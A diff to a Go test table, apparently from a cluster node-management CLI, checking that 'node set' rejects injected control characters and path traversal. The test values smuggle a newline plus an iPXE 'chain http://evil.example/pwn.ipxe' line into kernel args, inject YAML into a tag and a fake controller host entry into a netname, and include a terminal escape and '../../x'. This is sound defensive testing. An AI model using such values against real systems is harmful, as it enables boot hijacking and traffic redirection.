@@ -22,7 +22,8 @@ func TestNodeSetRefusesControlAndPaths(t *testing.T) {
 		args []string
 		want string
 	}{
-		{[]string{"node", "set", "n1", "--kernelargs", "quiet\nchain http://evil.example/pwn.ipxe #"}, `"quiet\nchain http://evil.example/pwn.ipxe #"`},
+		{[]string{"node", "set", "n1", "--kernelargs", "quiet\nchain http://evil.example/pwn.ipxe #"}, `quiet\nchain http://evil.example/pwn.ipxe #`},
+		{[]string{"node", "set", "n1", "--tagadd", "k=v\nnodes: {}"}, `k=v\nnodes: {}`},
 		{[]string{"node", "set", "n1", "--netname", "ib\n10.66.6.6 controller evil", "--ipaddr", "10.10.5.11"}, `"ib\n10.66.6.6 controller evil"`},
 		{[]string{"node", "set", "n1", "--comment", "a\x1b[2Jb"}, `"a\x1b[2Jb"`},
 		{[]string{"node", "set", "n1", "--netdev", "../../x"}, `"../../x"`},
